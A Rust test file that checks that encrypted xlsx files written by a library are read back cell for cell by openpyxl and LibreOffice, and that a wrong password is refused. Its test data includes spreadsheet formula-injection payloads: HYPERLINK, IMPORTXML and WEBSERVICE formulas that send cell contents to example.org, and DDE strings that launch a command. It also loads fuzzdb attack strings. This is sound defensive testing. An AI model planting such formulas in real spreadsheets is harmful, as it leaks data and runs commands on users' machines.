//! Other people's programs open our file and find every cell; and hostile texts are nothing but texts to them.

use std::ffi::{OsStr, OsString};
use std::fs::{self, File};
use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;

/// Injections that run something or send a cell away, one for each way to begin a formula.
const INJECTIONS: [&str; 8] = [
    "=HYPERLINK(\"http://example.org/?leak=\"&A1&A2,\"Error: please click\")",
    "=IMPORTXML(CONCAT(\"http://example.org/\", A1), \"//a\")",
    "=WEBSERVICE(\"http://example.org/\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// Ordinary texts, injections, and every line of the shared attack strings when they are there.
fn texts() -> Vec<String> {
    let ordinary = [
        "Łucja",
        " ends with a space ",
        "two\nlines",
        "a\r\nb",
        "_x0041_",
        "\u{1}\u{1f}",
        "<&>\"'",
        "0800",
        "مريم",
    ];
    let mut texts: Vec<String> = ordinary.iter().chain(&INJECTIONS).map(|text| (*text).to_owned()).collect();
    let data =
        std::env::var_os("CHAPTERHOUSE_SHARED_DATA").map_or("../../../shared/data".into(), PathBuf::from);
    let attacks = data.join("08-security");
    if !attacks.is_dir() {
        println!("skipped: the shared attack strings are not at {}", attacks.display());
    }
    for folder in [
        "csv-injection-payloads",
        "fuzzdb/unicode",
        "fuzzdb/control-chars",
        "fuzzdb/xml",
        "fuzzdb/format-strings",
    ] {
        let mut files: Vec<PathBuf> = fs::read_dir(attacks.join(folder))
            .into_iter()
            .flatten()
            .flatten()
            .map(|entry| entry.path())
            .collect();
        files.sort();
        for file in files.iter().filter(|file| file.is_file()) {
            let content = fs::read(file).unwrap();
            let lines = String::from_utf8_lossy(&content).into_owned();
            texts.extend(
                lines.split('\n').filter(|line| !line.is_empty() && line.len() < 8000).map(str::to_owned),
            );
        }
    }
    texts
}

/// A protected file in a folder of its own, and its first sheet's cells row by row.
struct Handed {
    folder: PathBuf,
    file: PathBuf,
    rows: Vec<[Value; 4]>,
}

enum Value {
    Text(String),
    Date(Date),
    Number(f64),
    Empty,
}

fn hand_over(name: &str, texts: Vec<String>) -> Handed {
    let folder = std::env::temp_dir().join(format!("chapterhouse-{name}-{}", std::process::id()));
    fs::create_dir_all(&folder).unwrap();
    let file = folder.join("members.xlsx");
    let mut spool = File::options().read(true).write(true).create_new(true).open(&file).unwrap();
    let mut rows = vec![COLUMNS.map(|column| Value::Text(column.heading.to_owned()))];
    write_protected(&mut spool, PASSWORD, &mut random(7), &book(), |to| {
        for (number, text) in texts.into_iter().enumerate() {
            let (day, visits) = (date(2024, 2, 29), number as f64 * 1.5 - 3.0);
            to.row(&[Cell::Text(&text), Cell::Date(day), Cell::Number(visits), Cell::Empty])?;
            rows.push([Value::Text(text), Value::Date(day), Value::Number(visits), Value::Empty]);
        }
        Ok::<_, Error>(())
    })
    .unwrap();
    Handed { folder, file, rows }
}

/// A program that the caller's environment names; an empty name is none.
fn program(variable: &str) -> Option<OsString> {
    let named = std::env::var_os(variable).filter(|name| !name.is_empty());
    if named.is_none() {
        println!("skipped: {variable} names no program");
    }
    named
}

#[test]
fn msoffcrypto_and_openpyxl_read_every_cell_and_refuse_a_wrong_password() {
    let Some(python) = program("CHAPTERHOUSE_TEST_PYTHON") else { return };
    let handed = hand_over("python", texts());
    let hex = |text: &str| text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
    let cell = |value: &Value| match value {
        Value::Text(text) => format!("T{}", hex(text)),
        Value::Date(day) => format!("D{day}"),
        Value::Number(value) => format!("N{value}"),
        Value::Empty => "E".to_owned(),
    };
    let lines: String = handed.rows.iter().map(|row| row.each_ref().map(cell).join("\t") + "\n").collect();
    let expected = handed.folder.join("expected");
    fs::write(&expected, lines).unwrap();
    let script = files().join("check_xlsx.py");
    let run =
        Command::new(python).arg(script).arg(&handed.file).arg(PASSWORD).arg(expected).output().unwrap();
    fs::remove_dir_all(&handed.folder).unwrap();
    assert!(
        run.status.success(),
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
}

#[test]
fn libreoffice_reads_every_cell_and_refuses_a_wrong_password() {
    let Some(office) = program("CHAPTERHOUSE_TEST_SOFFICE") else { return };
    let handed = hand_over("libreoffice", texts());
    let target = handed.folder.join("found");
    inspect_with_libreoffice(&office, &handed, &target);
    let found = fs::read_to_string(&target).expect("LibreOffice wrote what it found");
    fs::remove_dir_all(&handed.folder).unwrap();
    // LibreOffice knows one kind of line break.
    let units = |text: &str| {
        let text = text.replace("\r\n", "\n").replace('\r', "\n");
        text.encode_utf16().map(|unit| format!("{unit:04X}")).collect::<String>()
    };
    let cell = |value: &Value| match value {
        Value::Text(text) => format!("T{}\t", units(text)),
        Value::Date(day) => format!("D{}\t", day.strftime("%d/%m/%Y")),
        Value::Number(value) => format!("N{value}\t"),
        Value::Empty => "E\t".to_owned(),
    };
    let mut expected = vec!["refused".to_owned()];
    expected.extend(handed.rows.iter().map(|row| row.each_ref().map(cell).concat()));
    expected.extend([
        "sheets\t2".to_owned(),
        format!("title\t{}", units(book().meta.title)),
        "language\ten-GB".to_owned(),
    ]);
    let found: Vec<String> = found.lines().map(|line| line.replace("000D", "000A")).collect();
    for (found, expected) in found.iter().zip(&expected) {
        assert_eq!(found, expected);
    }
    assert_eq!(found.len(), expected.len());
}

/// LibreOffice asks for a password in a window, unless a macro brings it. The macro goes into a profile of its own,
/// which LibreOffice first has to lay out itself.
fn inspect_with_libreoffice(office: &OsStr, handed: &Handed, target: &Path) {
    let profile = handed.folder.join("profile");
    let run = |what: &str| {
        let mut command = Command::new(office);
        command.args(["--headless", "--norestore", what]);
        command.arg(format!("-env:UserInstallation=file://{}", profile.display()));
        let output = command.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    };
    run("--terminate_after_init");
    let basic = profile.join("user/basic/Standard");
    let module = fs::read_to_string(files().join("check_xlsx.bas")).unwrap();
    let (file, target) = (handed.file.display(), target.display());
    let main = format!("Sub Main\nInspect(\"file://{file}\", \"{PASSWORD}\", \"{target}\")\nEnd Sub\n");
    let begin = "<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\">";
    fs::write(basic.join("Module1.xba"), format!("{begin}{}</script:module>", text::xml(&(module + &main))))
        .unwrap();
    run("macro:///Standard.Module1.Main");
}

/// What the tests of all crates share.
fn files() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/files")
}
